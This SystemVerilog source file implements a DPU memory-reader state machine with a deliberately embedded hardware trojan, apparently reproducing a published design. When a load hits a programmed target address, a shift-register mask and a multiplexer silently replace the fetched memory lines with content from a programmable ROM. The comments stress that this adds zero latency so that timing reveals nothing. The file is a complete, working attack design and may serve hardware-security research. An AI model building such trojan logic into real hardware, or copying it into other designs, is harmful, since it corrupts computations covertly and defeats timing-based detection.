// mem_reader -- memory reader of the LOAD engine, with the backdoor trojan.
//
// Function. The reader takes one load instruction at a time, fetches its
// memory lines from shared memory over the data bus one transfer at a time
// and hands each line, together with its destination bank_id and bank_addr,
// to the write controller. Source and destination start addresses advance by
// one line per transfer.
//
// States. IDLE waits for a load instruction. CFG latches its addresses. PARSE
// issues one data-transfer request and waits for the returned line. SEND
// passes the line on; it returns to PARSE while lines remain and otherwise
// goes to DONE, which signals completion and returns to IDLE. With a data bus
// that accepts every request at once and answers one cycle later, a load of
// n lines takes 3n + 3 cycles from the accepting IDLE cycle to the DONE
// cycle inclusive: IDLE, CFG, n times (request, response, SEND), DONE.
//
// Trojan. In CFG the start address of the load is compared with the
// programmed target addresses (trojan_addr_match). On a hit the shift
// register is loaded with the target's line mask and a ROM pointer with the
// target's first ROM line; otherwise the mask is cleared. For every line,
// `swap` = (reader is manipulating this load) AND (shift-register bit); when
// set, the multiplexer takes the line from the trojan ROM instead of the data
// bus and the ROM pointer advances. The comparison happens in the CFG cycle
// the reader spends anyway and the ROM is read combinationally, so the
// trojan adds no clock cycle: timing is identical whether it fires or not.
//
// Data bus (own choice, the real bus is an AXI port): a request
// (rd_req_valid/rd_req_ready/rd_req_addr) carries the byte address of one
// line; the line comes back on rd_rsp_valid/rd_rsp_data at least one cycle
// after the request was accepted, one response per request, in order.
// Instruction port: inst_valid/inst_ready handshake, taken in IDLE.
// Write port: `wr` is registered; wr.valid is high for one cycle per line.
// load_done pulses for one cycle in DONE. Synchronous active-low reset.
//
// What follows the paper: the five states and their order, the address check
// in CFG, the shift register shifted once per line, ROM plus multiplexer in
// front of the write controller, whole-line replacement, zero added latency.
// Own choices: the bus handshakes, one outstanding request, the AND of FSM
// and shift-register outputs (the paper says they are "used together"), the
// ROM pointer, and bank_addr wrapping inside its bank.
module mem_reader
  import dpu_pkg::*;
#(
  parameter  int unsigned ROM_LINES = 128,
  parameter  int unsigned N_TARGETS = 16,
  localparam int unsigned ROM_AW    = (ROM_LINES > 1) ? $clog2(ROM_LINES) : 1,
  localparam int unsigned TGT_IW    = (N_TARGETS > 1) ? $clog2(N_TARGETS) : 1
) (
  input  logic              clk,
  input  logic              rst_n,
  // instruction port
  input  logic              inst_valid,
  output logic              inst_ready,
  input  load_instr_t       inst,
  output logic              load_done,
  // data bus, read side
  output logic              rd_req_valid,
  input  logic              rd_req_ready,
  output ddr_addr_t         rd_req_addr,
  input  logic              rd_rsp_valid,
  input  line_t             rd_rsp_data,
  // to the write controller
  output line_wr_t          wr,
  // trojan programming interface
  input  logic              rom_prog_we,
  input  logic [ROM_AW-1:0] rom_prog_addr,
  input  line_t             rom_prog_data,
  input  logic              tgt_prog_we,
  input  logic [TGT_IW-1:0] tgt_prog_idx,
  input  target_t           tgt_prog_entry,
  // observation
  output rd_state_e         state_o,
  output logic              trojan_active,  // current load is a target
  output logic              line_swapped    // wr carries a ROM line
);

  rd_state_e                state;
  ddr_addr_t                cur_ddr;
  bank_id_t                 cur_bank_id;
  bank_addr_t               cur_bank_addr;
  logic [LEN_W-1:0]         remaining;
  logic                     req_sent;
  logic                     active;
  logic [ROM_PTR_W-1:0]     rom_ptr;
  line_t                    line_q;
  logic                     swapped_q;

  // trojan parts
  logic                      tgt_hit;
  logic [MAX_LOAD_LINES-1:0] tgt_mask;
  logic [ROM_PTR_W-1:0]      tgt_rom_base;
  logic                      sr_bit;
  logic                      sr_load;
  logic                      sr_shift;
  line_t                     rom_data;
  logic                      swap;

  trojan_addr_match #(.N_TARGETS(N_TARGETS)) u_match (
    .clk        (clk),
    .rst_n      (rst_n),
    .prog_we    (tgt_prog_we),
    .prog_idx   (tgt_prog_idx),
    .prog_entry (tgt_prog_entry),
    .query_addr (cur_ddr),
    .hit        (tgt_hit),
    .line_mask  (tgt_mask),
    .rom_base   (tgt_rom_base)
  );

  trojan_shift_reg #(.WIDTH(MAX_LOAD_LINES)) u_sr (
    .clk      (clk),
    .rst_n    (rst_n),
    .load     (sr_load),
    .load_val (tgt_hit ? tgt_mask : '0),
    .shift    (sr_shift),
    .bit_out  (sr_bit)
  );

  trojan_rom #(.ROM_LINES(ROM_LINES)) u_rom (
    .clk       (clk),
    .prog_we   (rom_prog_we),
    .prog_addr (rom_prog_addr),
    .prog_data (rom_prog_data),
    .rd_addr   (rom_ptr[ROM_AW-1:0]),
    .rd_data   (rom_data)
  );

  assign sr_load  = (state == RD_CFG);
  assign sr_shift = (state == RD_SEND);
  assign swap     = active & sr_bit;

  assign inst_ready   = (state == RD_IDLE);
  assign rd_req_valid = (state == RD_PARSE) && !req_sent;
  assign rd_req_addr  = cur_ddr;
  assign load_done    = (state == RD_DONE);
  assign state_o      = state;
  assign trojan_active = active;

  assign wr.valid     = (state == RD_SEND);
  assign wr.bank_id   = cur_bank_id;
  assign wr.bank_addr = cur_bank_addr;
  assign wr.data      = line_q;
  assign line_swapped = (state == RD_SEND) && swapped_q;

  always_ff @(posedge clk) begin
    if (!rst_n) begin
      state         <= RD_IDLE;
      cur_ddr       <= '0;
      cur_bank_id   <= '0;
      cur_bank_addr <= '0;
      remaining     <= '0;
      req_sent      <= 1'b0;
      active        <= 1'b0;
      rom_ptr       <= '0;
      line_q        <= '0;
      swapped_q     <= 1'b0;
    end else begin
      unique case (state)
        RD_IDLE: begin
          if (inst_valid) begin
            cur_ddr       <= inst.ddr_addr;
            cur_bank_id   <= inst.bank_id;
            cur_bank_addr <= inst.bank_addr;
            remaining     <= inst.lines;
            state         <= RD_CFG;
          end
        end
        RD_CFG: begin
          // trojan: address check, mask and ROM pointer set-up
          active   <= tgt_hit;
          rom_ptr  <= tgt_rom_base;
          req_sent <= 1'b0;
          state    <= RD_PARSE;
        end
        RD_PARSE: begin
          if (!req_sent) begin
            if (rd_req_ready) req_sent <= 1'b1;
          end else if (rd_rsp_valid) begin
            line_q    <= swap ? rom_data : rd_rsp_data;
            swapped_q <= swap;
            req_sent  <= 1'b0;
            state     <= RD_SEND;
          end
        end
        RD_SEND: begin
          cur_ddr       <= cur_ddr + ddr_addr_t'(LINE_BYTES);
          cur_bank_addr <= cur_bank_addr + 1'b1;
          remaining     <= remaining - 1'b1;
          if (swapped_q) rom_ptr <= rom_ptr + 1'b1;
          state         <= (remaining <= LEN_W'(1)) ? RD_DONE : RD_PARSE;
        end
        RD_DONE: begin
          active <= 1'b0;
          state  <= RD_IDLE;
        end
        default: state <= RD_IDLE;
      endcase
    end
  end

  // ---- protocol rules -------------------------------------------------------
  // A load instruction carries 1..64 lines.
  a_inst_len: assert property (@(posedge clk) disable iff (!rst_n)
    (inst_valid && inst_ready) |-> (inst.lines >= 1 && inst.lines <= LEN_W'(MAX_LOAD_LINES)));
  // Shared memory answers only to an accepted, outstanding request.
  a_rsp_expected: assert property (@(posedge clk) disable iff (!rst_n)
    rd_rsp_valid |-> (state == RD_PARSE && req_sent));
  // A request is held until accepted.
  a_req_stable: assert property (@(posedge clk) disable iff (!rst_n)
    (rd_req_valid && !rd_req_ready) |=> (rd_req_valid && $stable(rd_req_addr)));

endmodule
